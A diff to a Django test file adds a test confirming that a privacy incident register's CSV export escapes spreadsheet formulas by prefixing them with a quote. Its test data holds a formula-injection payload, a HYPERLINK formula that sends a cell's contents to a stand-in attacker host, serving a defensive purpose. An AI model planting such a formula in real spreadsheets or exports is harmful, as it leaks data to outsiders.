@@ -133,6 +133,16 @@ def test_the_incident_register_exports_as_csv(staff_client):
     assert rows[1][header.index("nombre de personnes concernées")] == "40"
 
 
+def test_a_formula_in_the_register_is_exported_as_text(staff_client):
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
+    IncidentFactory(circumstances=formula, measures_taken="+1+1", public_notice="-2")
+    response = staff_client.get("/django-admin/privacy/incident/export.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["circonstances de l’incident"] == "'" + formula
+    assert row["mesures prises"] == "'+1+1"
+
+
 def test_members_cannot_read_the_register(member_client):
     response = member_client.get("/django-admin/privacy/incident/export.csv")
     assert response.status_code == 302
